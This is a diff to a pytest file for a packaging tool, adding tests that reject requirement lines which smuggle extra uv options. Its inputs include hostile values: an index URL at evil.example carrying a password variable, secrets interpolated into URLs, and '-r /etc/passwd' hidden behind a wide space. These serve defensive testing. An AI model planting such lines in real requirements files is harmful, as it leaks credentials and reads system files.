@@ -7,7 +7,7 @@ from pushlive.config.site import RequirementsKind
 from pushlive.image import uv
 from pushlive.image.dependencies import _export, markers
 from pushlive.image.lines import logical_lines
-from pushlive.image.plan import Lock
+from pushlive.image.plan import Lock, Plan, vetted
 from pushlive.image.requirements import key_material, plan_of
 from pushlive.model.errors import BuildError
 from pushlive.system import process
@@ -94,6 +94,39 @@ def test_nothing_outside_of_the_repository_is_read(tmp_path, line):
 def test_our_environment_is_not_put_into_addresses(tmp_path):
     with pytest.raises(BuildError, match="wants an environment variable"):
         requirements(tmp_path, "--extra-index-url https://evil.example/${UV_INDEX_PASSWORD}/simple")
+
+
+@pytest.mark.parametrize(
+    "plan",
+    [
+        Plan(("alpha==1\n--no-binary beta",)),
+        Plan(("alpha==1 --no-binary beta",)),
+        Plan((f"alpha==1 --hash={SHA} --no-binary beta",)),
+        Plan((f"alpha==1 --hash={SHA}\u2003-r /etc/passwd",)),
+        Plan(("alpha==1 \\",)),
+        Plan(("--no-binary==beta",)),
+        Plan(("alpha",), constraints=("-r /etc/passwd",)),
+        Plan(("alpha",), options=("--no-index --no-binary alpha",)),
+        Plan(("alpha",), options=("--extra-index-url https://h/simple --no-binary alpha",)),
+        Plan(("alpha",), options=("--no-binary alpha",)),
+        Plan(("alpha @ https://h/${UV_INDEX_PASSWORD}/a.whl",)),
+        Plan(("alpha",), options=("--index-url https://${TOKEN}@h/simple",)),
+    ],
+)
+def test_a_line_that_says_more_to_uv_than_one_thing_is_refused(plan):
+    with pytest.raises(BuildError, match=r"is not a requirement|wants an environment variable"):
+        vetted(plan)
+
+
+@pytest.mark.parametrize(
+    "plan",
+    [
+        Plan((f"alpha[x]==1 ; python_version > '3' --hash={SHA} --hash={SHA}", "b @ git+ssh://git@h/b@v1#egg=b")),
+        Plan(("{tree}/libs/a; sys_platform == 'linux'",), options=("--no-index", "--find-links {tree}/wheels")),
+    ],
+)
+def test_a_line_that_says_one_thing_is_left_as_it_is(plan):
+    assert vetted(plan) is plan
 
 
 def test_files_that_include_each_other_are_read_once(tmp_path):
